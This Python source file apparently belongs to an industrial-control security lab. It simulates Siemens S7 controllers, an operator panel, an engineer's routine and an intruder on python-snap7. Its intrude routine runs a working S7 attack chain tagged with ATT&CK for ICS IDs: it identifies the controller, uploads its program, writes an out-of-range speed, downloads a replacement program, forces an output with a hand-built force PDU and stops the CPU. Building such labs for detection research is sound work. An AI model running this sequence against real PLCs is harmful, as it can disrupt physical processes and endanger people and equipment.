"""S7 controllers, a panel, an engineering workstation and an intruder, on python-snap7.

python-snap7's server leaves out the headers of system status lists and knows one identity only;
`Controller` answers them as the SIMATIC manual "System and Standard Functions" lays them out. The
stack's client has no force job (its `force_bit` writes), so that one PDU is of our own making.
"""

from __future__ import annotations

import logging
import struct
import time
from collections.abc import Callable, Iterable

from snap7.client import Client
from snap7.server import CPUState, Server
from snap7.type import Area, Block, SrvArea

from lab.network import Context

logging.getLogger("snap7").setLevel(logging.CRITICAL)
DATA_BLOCK, SIZE = 10, 64
PROGRAM = 20
"""The block that is kept as the program: uploaded by engineers, downloaded by intruders."""

Process = Callable[[bytearray], None]
"""One step of a process on the octets of the data block."""


class Controller(Server):
    """A server that says of itself what `told` says: name, module, model, serial, firmware."""

    def __init__(self, told: dict[str, str]) -> None:
        super().__init__(log=False)
        self._told = told

    def _get_szl_data(self, szl_id: int, szl_index: int) -> bytes | None:
        """Length and number of records, and the records; the caller puts the id and index in front."""
        told, partial = self._told, szl_id & 0xFF
        if partial == 0x11:
            order = told["model"].encode().ljust(20)
            firmware = bytes([ord("V"), *(int(part) for part in told["firmware"].lstrip("V").split("."))])
            versions = {1: b"\0\1\0\1", 6: b"\0\1\0\1", 7: firmware}
            return _records(
                struct.pack(">H", n) + order + bytes(2) + version for n, version in versions.items()
            )
        if partial == 0x1C:
            copyright_ = "Original Siemens Equipment"
            texts = {1: told["name"], 2: told["module"], 4: copyright_, 5: told["serial"], 7: told["module"]}
            return _records(
                struct.pack(">H", n) + text.encode().ljust(32, b"\0") for n, text in texts.items()
            )
        if partial == 0x24:
            state = 8 if self.cpu_state == CPUState.RUN else 3
            return _records([bytes([0x51, 0x44, 0xFF, state]) + bytes(16)])
        if szl_id == 0x0232:
            return _records([struct.pack(">HHHHH", 4, 1, 0, 1, 2) + bytes(30)])
        return super()._get_szl_data(szl_id, szl_index)


def _records(records: Iterable[bytes]) -> bytes:
    rows = list(records)
    return struct.pack(">HH", len(rows[0]), len(rows)) + b"".join(rows)


def serve(context: Context, process: Process) -> None:
    """A controller: `process` runs five times a second on its data block while the CPU runs."""
    data, program = bytearray(SIZE), bytearray(context.random.randbytes(192))
    server = Controller(context.host.told)
    server.cpu_state = CPUState.RUN
    server.register_area(SrvArea.DB, DATA_BLOCK, data)
    server.register_area(SrvArea.DB, PROGRAM, program)
    server.register_area(SrvArea.PA, 0, bytearray(16))
    server.register_area(SrvArea.PE, 0, bytearray(16))
    server.start_to(context.host.ip, 102)
    memory = next(area for (kind, number), area in server.memory_areas.items() if number == DATA_BLOCK)
    while True:
        if server.cpu_state == CPUState.RUN:
            process(memory)
        time.sleep(0.2)


def connect(context: Context, server: str) -> Client:
    """A connection to rack 0, slot 2, as soon as the server is there."""
    while True:
        client = Client()
        try:
            return client.connect(context.ip(server), 0, 2)
        except Exception:  # the stack has many names for "not yet"
            time.sleep(0.3)


def operate(context: Context, servers: list[str], speed: int, values: range) -> None:
    """A panel: reads the data block every second, now and then sets the speed (an INT at `speed`)."""
    context.wait_until(1)
    clients = {server: connect(context, server) for server in servers}
    for turn in context.every(1, 1):
        for client in clients.values():
            client.db_read(DATA_BLOCK, 0, 24)
            if turn % 15 == 9:
                client.db_write(DATA_BLOCK, speed, struct.pack(">h", context.random.choice(values)))


def engineer(context: Context, servers: list[str]) -> None:
    """An engineer's round: who are you, are you running, and compare the program with the project's."""
    context.wait_until(6)
    for turn in context.every(25, 6):
        client = connect(context, servers[turn % len(servers)])
        client.read_szl(0x0011, 0)
        client.read_szl(0x001C, 0)
        client.read_szl(0x0424, 0)
        client.upload(PROGRAM)
        client.disconnect()


def force_job(area_byte: int, value: int) -> bytes:
    """Userdata PDU: programmer commands (group 1), force (subfunction 9) of one output byte.

    The data holds the lengths of the job's head and body, the number of items, the item (area,
    repetition, DB, address) and its value (return code, transport size, length, octet and filler).
    """
    head = struct.pack(">HHHHHHHH", 1, 0, 1, 1, 1, 0, 0, 0) + bytes(4)
    body = struct.pack(">HBBHH", 1, 0x21, 1, 0, area_byte) + struct.pack(">BBHB", 0, 4, 8, value) + b"\0"
    payload = struct.pack(">HH", len(head), len(body)) + head + body
    data = struct.pack(">BBH", 0xFF, 9, len(payload)) + payload
    parameters = bytes([0x00, 0x01, 0x12, 0x04, 0x11, 0x41, 0x09, 0x00])
    return struct.pack(">BBHHHH", 0x32, 7, 0, 0x7001, len(parameters), len(data)) + parameters + data


def intrude(context: Context, target: str) -> None:
    """Identify, list blocks, take the program, write a value, load another program, force, stop."""
    client = connect(context, target)
    context.happened(target, "identify", "Reads order number, firmware, name and serial number", ["T0888"])
    client.read_szl(0x0011, 0)
    client.read_szl(0x001C, 0)
    time.sleep(1)
    context.happened(target, "browse", "Lists the blocks of the controller", ["T0888"])
    client.list_blocks()
    client.list_blocks_of_type(Block.DB, 100)
    time.sleep(1)
    context.happened(target, "program_upload", f"Uploads DB {PROGRAM}", ["T0845"])
    client.upload(PROGRAM)
    time.sleep(2)
    context.happened(target, "write", "Writes a speed of 32000 to the data block", ["T0836"])
    client.write_area(Area.DB, DATA_BLOCK, 4, bytearray(struct.pack(">h", 32000)))
    time.sleep(2)
    context.happened(target, "program_download", f"Downloads another DB {PROGRAM}", ["T0843"])
    client.download(bytearray(context.random.randbytes(192)), PROGRAM)
    time.sleep(2)
    context.happened(target, "operate", "Forces an output byte", ["T0835"])
    client.iso_exchange_buffer(bytearray(force_job(0, 0xFF)))
    time.sleep(2)
    context.happened(target, "stop", "Stops the CPU", ["T0858"])
    client.plc_stop()
    client.disconnect()
